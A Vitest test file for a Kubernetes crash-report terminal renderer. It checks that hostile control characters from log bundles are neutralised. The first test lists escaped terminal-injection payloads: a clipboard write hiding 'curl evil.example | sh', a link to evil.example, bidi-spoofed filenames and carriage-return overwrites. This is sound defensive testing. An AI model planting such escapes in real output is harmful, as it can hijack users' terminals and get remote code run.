import { describe, expect, it } from 'vitest';
import { render } from '../../src/render/terminal.js';
import { displayWidth, neutralize } from '../../src/render/sanitize.js';
import { causeFindings, escalatingReport, multiBundleReport, nonEscalatingReport, reportWith } from './fixtures.js';
import { TERMINAL_PAYLOADS, hostileReport } from './hostile.js';

const plain = { color: false, width: 100 };

/** Every code point a terminal acts on: C0 but newline, DEL, C1, bidi controls, zero-width and BOM. */
const UNSAFE_FOR_TERMINAL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;
const SGR = /\x1b\[[0-9;]*m/g;

describe('terminal view: control characters from the bundle', () => {
  it('never lets a control character of a log line, name or message reach the output', () => {
    const output = render(hostileReport(), plain);
    expect(output).not.toMatch(UNSAFE_FOR_TERMINAL);
    // Each attack is still visible, as text.
    expect(output).toContain('\\x1b[2J\\x1b[H');
    expect(output).toContain('\\x1b]8;;https://evil.example/\\x07click here');
    expect(output).toContain('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
    expect(output).toContain('safe\\u202etxt.exe\\u202c');
    expect(output).toContain('\\u2066isolate\\u2069');
    expect(output).toContain('ding\\x07');
    expect(output).toContain('all good\\x0dFAILED');
    expect(output).toContain('\\x9b31mred');
    expect(output).toContain('ad\\u200bmin\\ufeff');
    expect(output).toContain('x\\x7fy');
  });

  it('with colour on, the only escapes in the output are its own SGR colour codes', () => {
    const output = render(hostileReport(), { color: true, width: 100 });
    expect(output).toMatch(SGR);
    expect(output.replace(SGR, '')).not.toMatch(UNSAFE_FOR_TERMINAL);
  });

  it('emits colour codes only when asked to', () => {
    for (const report of [escalatingReport, nonEscalatingReport, multiBundleReport]) {
      expect(render(report, { color: false, width: 100 })).not.toContain('\x1b');
      expect(render(report, { color: true, width: 100 })).toMatch(SGR);
    }
  });

  it('neutralises every payload on its own, with a visible escape in its place', () => {
    for (const [name, payload] of Object.entries(TERMINAL_PAYLOADS)) {
      const shown = neutralize(payload);
      expect(shown, name).not.toMatch(UNSAFE_FOR_TERMINAL);
      expect(shown, name).toMatch(/\\(x[0-9a-f]{2}|u[0-9a-f]{4})/);
    }
    expect(neutralize('\u{e0041}tag')).toBe('\\u{e0041}tag');
    expect(neutralize('\ud800 lone surrogate')).toBe('\\ud800 lone surrogate');
    expect(neutralize('\tat com.example.Main.main(Main.java:12)')).toBe('    at com.example.Main.main(Main.java:12)');
    expect(neutralize('plain ünïcödé, 中文, emoji 🚀')).toBe('plain ünïcödé, 中文, emoji 🚀');
  });
});

describe('terminal view: layout', () => {
  it('keeps every line within the width it is given', () => {
    for (const width of [60, 80, 100, 140]) {
      for (const report of [escalatingReport, nonEscalatingReport, multiBundleReport, hostileReport()]) {
        const lines = render(report, { color: false, width }).split('\n');
        const over = lines.filter((line) => displayWidth(line) > width);
        expect(over, `width ${width}`).toEqual([]);
      }
    }
  });

  it('puts the verdict first, then the bundles, then the findings most severe first', () => {
    const output = render(escalatingReport, plain);
    expect(output.startsWith('ESCALATE TO PLATFORM/SRE: 2 CHECKS FIRED\n')).toBe(true);
    const bundles = output.indexOf('Bundles read (1)');
    const findings = output.indexOf('Crashing containers (6), most severe first');
    expect(bundles).toBeGreaterThan(output.indexOf('✗ kubelet-overloaded'));
    expect(findings).toBeGreaterThan(bundles);
    const order = [...output.matchAll(/^\d+\. ([a-z-]+) · /gm)].map((match) => match[1]);
    expect(order).toEqual(['oom-killed', 'oom-killed', 'oom-killed', 'liveness-probe-failure', 'missing-config', 'boot-dependency-unavailable']);
  });

  it('says plainly when nothing escalates, and lists the team-side fixes', () => {
    const output = render(nonEscalatingReport, plain);
    expect(output.startsWith('NO ESCALATION: THE FIX LIVES WITH THE APPLICATION TEAM\n')).toBe(true);
    expect(output).toContain('Team-side fixes');
    expect(output).toContain('  • shop/checkout: set DATABASE_URL');
  });

  it('shows the decisive log line with its number', () => {
    const output = render(reportWith([causeFindings['boot-dependency-unavailable']]), plain);
    expect(output).toContain('3 │ panic: dial tcp 10.96.14.202:5432: connect: connection refused');
  });

  it('orders ties by namespace, pod and container', () => {
    const a = { ...causeFindings.unknown, namespace: 'b', severity: 50 };
    const b = { ...causeFindings.unknown, namespace: 'a', pod: 'z', severity: 50 };
    const c = { ...causeFindings.unknown, namespace: 'a', pod: 'y', severity: 50 };
    const output = render(reportWith([a, b, c]), plain);
    const pods = [...output.matchAll(/^\d+\. unknown · ([a-z]+\/[a-z0-9-]+) /gm)].map((m) => m[1]);
    expect(pods).toEqual(['a/y', 'a/z', 'b/mailer-6c5b4a3d2-qq7rr']);
  });

  it('reports analyzer errors and an empty report', () => {
    const report = reportWith([], { errors: [{ rule: 'oom-killed', bundle: 'b.tar.gz', target: 'shop/api', message: 'boom' }] });
    const output = render(report, plain);
    expect(output).toContain('no container is crash-looping or restarting in these bundles');
    expect(output).toContain('Analyzer errors (1)');
    expect(output).toContain('oom-killed on b.tar.gz shop/api: boom');
  });
});
